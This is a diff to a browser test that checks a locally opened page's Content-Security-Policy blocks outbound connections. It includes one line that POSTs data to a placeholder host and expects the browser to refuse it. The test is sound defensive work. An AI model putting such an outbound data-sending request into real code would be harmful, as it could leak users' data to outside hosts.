@@ -235,5 +235,16 @@ describe("the page opened from disk", () => {
     expect(foreign).toEqual([]);
     expect(pageErrors).toEqual([]);
     expect(await page.evaluate(() => (globalThis as { __tiepdanErrors?: string[] }).__tiepdanErrors)).toEqual([]);
+    // The policy itself: a script on the page that tried to send data out would be stopped by the browser.
+    const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content");
+    expect(csp).toContain("default-src 'none'");
+    expect(csp).toContain("connect-src 'none'");
+    const attempt = await page.evaluate(() =>
+      fetch("https://example.invalid/thu", { method: "POST", body: "x" }).then(
+        () => "sent",
+        (e: Error) => e.name,
+      ),
+    );
+    expect(attempt).toBe("TypeError");
   });
 });
